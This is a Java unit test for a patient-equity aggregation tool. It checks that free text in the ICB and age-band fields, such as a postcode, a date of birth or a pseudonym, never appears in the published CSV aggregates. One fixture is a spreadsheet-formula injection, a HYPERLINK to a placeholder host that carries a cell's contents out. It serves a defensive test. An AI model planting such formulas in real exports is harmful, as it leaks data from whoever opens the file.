package org.wardstream.equity.disclosure;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.file.Files;
import java.nio.file.Path;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.wardstream.equity.EquityAggregator;
import org.wardstream.equity.EquitySettings;
import org.wardstream.equity.io.AggregatesCsv;
import org.wardstream.equity.model.PatientDay;
import org.wardstream.equity.model.Strata;
import org.wardstream.schema.Stratifiers;

/**
 * Adversarial probe 19a, D2 (fixed: an ICB that is not a three-character ODS code, an age band that is not a band and an IMD edition that is not a name are unknown): the ICB and age-band strata are published verbatim from the enrolment's free text, so
 * whatever a referral system puts in those fields (a postcode, a date of birth, a pseudonym, a spreadsheet formula)
 * becomes a stratum label in the published aggregates, even when the stratum's counts are suppressed.
 *
 * <p>Every other stratifier goes through a code list (IMD decile, ethnic category, sex: anything else is "unknown");
 * {@code Strata.from} only trims {@code icbCode} and {@code ageBand} ({@code textOrUnknown}), neither the Avro
 * schema nor {@code EnrolmentValidator} checks them, and Disclosure keeps a suppressed stratum's row with its label.
 * docs/METRICS.md promises "published files hold counts and rates only, never a patient id, postcode or small-area
 * code". Scenario: a programme of 40 patients; one enrolment's referral mapping put the home postcode into
 * {@code icbCode}, another put the date of birth into {@code ageBand}, a third a pseudonym, a fourth a formula.
 * Expected: an ICB that is not an ODS code and an age band that is not a band are published as "unknown" (counted by
 * stratifier completeness), never as a label; measured: each is a stratum of the published CSV a commissioner opens.
 */
class FreeTextStratumTest {
    static final LocalDate MAR = LocalDate.of(2026, 3, 1);
    static final LocalDate APR = LocalDate.of(2026, 4, 1);
    static final String PROG = "virtual-ward";

    static Strata strata(String ageBand, String icb) {
        return Strata.from(Stratifiers.newBuilder().setImdDecile(5).setImdEdition("IoD2019").setEthnicCategory("A")
                .setSexCode("2").setAgeBand(ageBand).setIcbCode(icb).build());
    }

    @Test
    void freeTextInTheIcbOrAgeBandFieldIsNeverPublishedAsAStratum(@TempDir Path dir) throws Exception {
        List<PatientDay> days = new ArrayList<>();
        for (int p = 0; p < 40; p++) {
            addMonth(days, "p" + p, strata("65-74", "QWE"));
        }
        addMonth(days, "p-postcode", strata("65-74", "LS6 2AB"));          // home postcode in the ICB field
        addMonth(days, "p-dob", strata("02/03/1948", "QWE"));             // date of birth in the age band
        addMonth(days, "p-pseudonym", strata("75-84", "p000123"));        // a patient's pseudonym
        addMonth(days, "p-formula", strata("75-84", "=HYPERLINK(\"http://x.example/?q=\"&A1,\"QWE\")"));

        List<PublishedRow> published = Disclosure.publish(new EquityAggregator(EquitySettings.defaults())
                .aggregate(PROG, "month", MAR, APR, days, 0));
        Path csv = dir.resolve("aggregates.csv");
        AggregatesCsv.write(csv, published);
        String text = Files.readString(csv);

        List<String> labels = published.stream().filter(r -> r.dimension().equals("icb")
                || r.dimension().equals("age_band")).map(r -> r.dimension() + "=" + r.stratum()).distinct().toList();
        System.out.println("published icb/age_band strata: " + labels);
        assertThat(text).as("a postcode in the published aggregates").doesNotContain("LS6 2AB");
        assertThat(text).as("a date of birth in the published aggregates").doesNotContain("1948");
        assertThat(text).as("a patient pseudonym in the published aggregates").doesNotContain("p000123");
        assertThat(text).as("a spreadsheet formula in a cell (runs when the commissioner opens the CSV)")
                .doesNotContain(",=HYPERLINK").doesNotContain("\"=HYPERLINK");
    }

    private static void addMonth(List<PatientDay> days, String id, Strata s) {
        for (int d = 1; d <= 31; d++) {
            days.add(new PatientDay(PROG, id, MAR.withDayOfMonth(d), s, 1440, 1440, 1200, true, Map.of(), 0,
                    List.of(), 0, 0, false, false));
        }
    }
}
